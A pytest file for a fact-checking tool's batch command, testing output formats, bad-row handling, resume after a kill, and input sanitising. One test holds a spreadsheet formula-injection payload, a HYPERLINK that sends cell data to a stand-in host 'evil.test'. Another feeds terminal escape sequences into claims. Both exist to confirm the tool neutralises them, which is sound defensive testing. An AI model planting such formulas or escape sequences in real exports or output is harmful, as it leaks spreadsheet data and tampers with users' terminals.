import csv
import json
import signal
import subprocess
import sys
import time

import pytest
from click.testing import CliRunner

from factcheck.interfaces.cli.commands import main
from factcheck.interfaces.exports import CLAIMREVIEW_REQUIRED

from .conftest import FIXTURES, SEEDS

ENV = {"FACTCHECK_USE_STANCE_MODEL": "false"}
CLAIMS = [json.loads(x)["claim"] for x in (FIXTURES / "seed_claims.jsonl").read_text().splitlines()]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    d = str(tmp_path_factory.mktemp("batchstore"))
    r = CliRunner().invoke(main, ["--store", d, "ingest", str(SEEDS)], env=ENV)
    assert r.exit_code == 0, r.output
    return d


def run(store, *args):
    return CliRunner().invoke(main, ["--store", store, "batch", *args], env=ENV)


def _jsonl(path):
    return [json.loads(x) for x in path.read_text().splitlines()]


def test_csv_in_every_format_out(store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(
        "id,claim,dateline,source_filter\n"
        "a,Biden and Putin spoke for 90 minutes,2021-12-31,\n"
        "b,Putin seized Crimea in 2014,,\n"
        'c,"Ukraine has been invited to join NATO",,\n'
    )
    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
    assert r.exit_code == 0, r.output
    rows = _jsonl(tmp_path / "o.jsonl")
    assert [(x["id"], x["label"]) for x in rows] == [
        ("a", "REFUTED"),
        ("b", "SUPPORTED"),
        ("c", "REFUTED"),
    ]
    assert set(rows[0]) >= {"claim", "label", "confidence", "rationale", "evidence"}
    assert "3 checked" in r.output and "claims/s" in r.output

    assert run(store, str(src), "--out", str(tmp_path / "o.csv")).exit_code == 0
    table = list(csv.DictReader((tmp_path / "o.csv").open()))
    assert [x["label"] for x in table] == ["REFUTED", "SUPPORTED", "REFUTED"]
    assert "50-minute" in table[0]["evidence"]

    assert run(store, str(src), "--out", str(tmp_path / "o.md")).exit_code == 0
    md = (tmp_path / "o.md").read_text()
    assert "| REFUTED | 2 |" in md and "| SUPPORTED | 1 |" in md and "## 1." in md

    assert (
        run(
            store, str(src), "--format", "claimreview", "--out", str(tmp_path / "o.jsonld")
        ).exit_code
        == 0
    )
    reviews = json.loads((tmp_path / "o.jsonld").read_text())
    assert len(reviews) == 3
    for rv in reviews:
        assert all(k in rv for k in CLAIMREVIEW_REQUIRED)
        assert rv["@type"] == "ClaimReview" and rv["itemReviewed"]["@type"] == "Claim"
        assert rv["reviewRating"]["alternateName"] in ("True", "False", "Mixed", "Unproven")
    assert reviews[0]["reviewRating"]["alternateName"] == "False"
    assert reviews[1]["itemReviewed"]["datePublished"] == "2021-12-31"


def test_jsonl_bad_rows_are_reported_and_skipped(store, tmp_path):
    src = tmp_path / "in.jsonl"
    long = "x " * 800
    src.write_text(
        "\n".join(
            [
                json.dumps({"id": "ok1", "claim": "Putin seized Crimea in 2016"}),
                "{broken json",
                json.dumps({"id": "nokey", "text": "no claim here"}),
                json.dumps({"id": "long", "claim": long}),
                json.dumps({"id": "empty", "claim": "  "}),
                json.dumps({"id": "ok2", "claim": "Ukraine has not been invited to join NATO"}),
            ]
        )
        + "\n"
    )
    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
    assert r.exit_code == 1
    rows = {x["id"]: x for x in _jsonl(tmp_path / "o.jsonl")}
    assert rows["ok1"]["label"] == "REFUTED" and rows["ok2"]["label"] == "SUPPORTED"
    assert "line 2: broken JSON" in rows["row-2"]["error"]
    assert "no 'claim' field" in rows["nokey"]["error"]
    assert "limit 1,000" in rows["long"]["error"]
    assert "empty" in rows["empty"]["error"]
    assert "line 2" in r.output  # reported as it happens, with its line number


def test_usage_errors_exit_2(store, tmp_path):
    bad = tmp_path / "nocol.csv"
    bad.write_text("text\nhello\n")
    r = run(store, str(bad))
    assert r.exit_code == 2 and "'claim' column" in r.output
    assert run(store, str(tmp_path / "missing.csv")).exit_code == 2
    assert run(store, str(bad), "--resume").exit_code == 2
    assert run(store, str(bad), "--format", "xml").exit_code == 2


def test_folder_of_articles(store, tmp_path):
    d = tmp_path / "articles"
    d.mkdir()
    (d / "draft.txt").write_text(
        "date 2021-12-31 Draft\n\nBiden and Putin spoke for 90 minutes "
        "on Thursday. Putin seized Crimea in 2014.\n"
    )
    r = run(store, str(d), "--out", str(tmp_path / "o.jsonl"))
    assert r.exit_code == 0, r.output
    rows = _jsonl(tmp_path / "o.jsonl")
    assert [x["id"] for x in rows] == ["draft.txt#1", "draft.txt#2", "draft.txt#3"][: len(rows)]
    assert rows[0]["label"] == "REFUTED"


def _cli(*args):
    return [sys.executable, "-m", "factcheck.interfaces.cli.commands", *args]


def test_resume_after_a_killed_run_equals_an_uninterrupted_run(store, tmp_path):
    src = tmp_path / "many.jsonl"
    src.write_text(
        "".join(
            json.dumps({"id": f"r{i:03d}", "claim": CLAIMS[i % len(CLAIMS)]}) + "\n"
            for i in range(90)
        )
    )
    env = {**__import__("os").environ, **ENV}
    full = tmp_path / "full.jsonl"
    subprocess.run(
        _cli("--store", store, "batch", str(src), "--out", str(full), "--chunk", "3"),
        check=True,
        env=env,
        capture_output=True,
    )
    part = tmp_path / "part.jsonl"
    proc = subprocess.Popen(
        _cli("--store", store, "batch", str(src), "--out", str(part), "--chunk", "3"),
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.time() + 120
    while time.time() < deadline:
        if part.exists() and len(part.read_text().splitlines()) >= 20:
            break
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    written = len(part.read_text().splitlines())
    assert 20 <= written < 90, "the run was not interrupted part-way"
    r = subprocess.run(
        _cli("--store", store, "batch", str(src), "--out", str(part), "--resume", "--chunk", "3"),
        env=env,
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0, r.stderr
    assert "skipped" in r.stderr
    assert part.read_text() == full.read_text()


# -- a row can fail, a batch cannot (issue: batch safety) ------------------------------------


def test_unknown_source_filter_is_an_error_row_and_file_names_match(store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(
        "id,claim,source_filter\n"
        "a,Biden and Putin spoke for 90 minutes,2021-12-31-biden-putin-call.txt\n"
        "b,Putin seized Crimea in 2014,no-such-source.txt\n"
        f"c,Putin seized Crimea in 2014,{SEEDS / '2021-12-31-biden-putin-call.txt'}\n"
    )
    out = tmp_path / "o.jsonl"
    r = run(store, str(src), "--out", str(out))
    assert r.exit_code == 1, r.output
    rows = {x["id"]: x for x in _jsonl(out)}
    assert rows["a"]["label"] == "REFUTED"  # the file name a user sees in their folder
    assert "line 3" in rows["b"]["error"] and "no-such-source.txt" in rows["b"]["error"]
    assert rows["c"]["label"] == "SUPPORTED"  # a path


def test_a_huge_csv_field_is_an_error_row(store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(f'id,claim\nbig,"{"word " * 40_000}"\nok,Putin seized Crimea in 2014\n')
    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
    assert r.exit_code == 1, r.output
    rows = {x["id"]: x for x in _jsonl(tmp_path / "o.jsonl")}
    assert "200,000 characters; limit 1,000" in rows["big"]["error"]
    assert rows["ok"]["label"] == "SUPPORTED"


def test_out_in_a_missing_folder_is_created(store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("claim\nPutin seized Crimea in 2014\n")
    out = tmp_path / "new" / "deeper" / "o.csv"
    r = run(store, str(src), "--out", str(out))
    assert r.exit_code == 0, r.output
    assert "SUPPORTED" in out.read_text()


def test_an_unwritable_output_stops_with_exit_2_and_one_line(store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("claim\nPutin seized Crimea in 2014\n")
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    r = run(store, str(src), "--out", str(blocker / "o.csv"))
    assert r.exit_code == 2
    assert "cannot be written" in r.output and "Traceback" not in r.output


def test_an_unreachable_store_stops_with_exit_2(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("claim\nPutin seized Crimea in 2014\n")
    r = CliRunner().invoke(main, ["--chroma-url", "http://127.0.0.1:9", "batch", str(src)], env=ENV)
    assert r.exit_code == 2 and "Chroma server" in r.output


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(store, tmp_path):
    src = tmp_path / "in.jsonl"
    evil = '=HYPERLINK("http://evil.test/"&A1,"click")'
    src.write_text(
        "".join(
            json.dumps({"id": i, "claim": c}) + "\n"
            for i, c in [("1", evil), ("2", "+1 555 0100 said hello"), ("3", "@SUM(A1:A9)")]
        )
    )
    out = tmp_path / "o.csv"
    run(store, str(src), "--out", str(out))
    table = list(csv.DictReader(out.open(newline="")))
    cells = [v for row in table for v in row.values() if v]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert table[0]["claim"] == "'" + evil
    # and --resume still recognises those rows
    r = run(store, str(src), "--out", str(out), "--resume")
    assert "3 skipped" in r.output


def test_wrong_types_in_jsonl_are_named(store, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_bytes(
        b'{"id": "num", "claim": 12345}\n'
        b'{"id": "list", "claim": ["a"]}\n'
        b'{"id": "date", "claim": "Putin seized Crimea in 2014", "dateline": 20211231}\n'
        b'{"id": "bytes", "claim": "Putin \xff seized Crimea"}\n'
        b'{"id": "ok", "claim": "Putin seized Crimea in 2014"}\n'
    )
    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
    assert r.exit_code == 1
    rows = {x["id"]: x for x in _jsonl(tmp_path / "o.jsonl")}
    assert "'claim' must be text, not a number (12345)" in rows["num"]["error"]
    assert "not a list" in rows["list"]["error"]
    assert "'dateline' must be text" in rows["date"]["error"]
    assert "line 4" in rows["bytes"]["error"] and "UTF-8" in rows["bytes"]["error"]
    assert rows["ok"]["label"] == "SUPPORTED"


def test_escape_sequences_never_reach_the_terminal(store, tmp_path):
    claim = "Biden and Putin\x1b[31m spoke for 90 minutes\x1b]0;pwned\x07"
    r = CliRunner().invoke(main, ["--store", store, "check", claim], env=ENV)
    assert r.exit_code == 0
    assert "\x1b" not in r.output and "\x07" not in r.output
    assert "REFUTED" in r.output  # the same verdict as the clean claim
    src = tmp_path / "in.csv"
    src.write_text("id,claim,source_filter\nx\x1b]0;title\x07,Hi,\x1b[2Jnope\n")
    r = run(store, str(src))
    assert "\x1b" not in r.output and "\x07" not in r.output
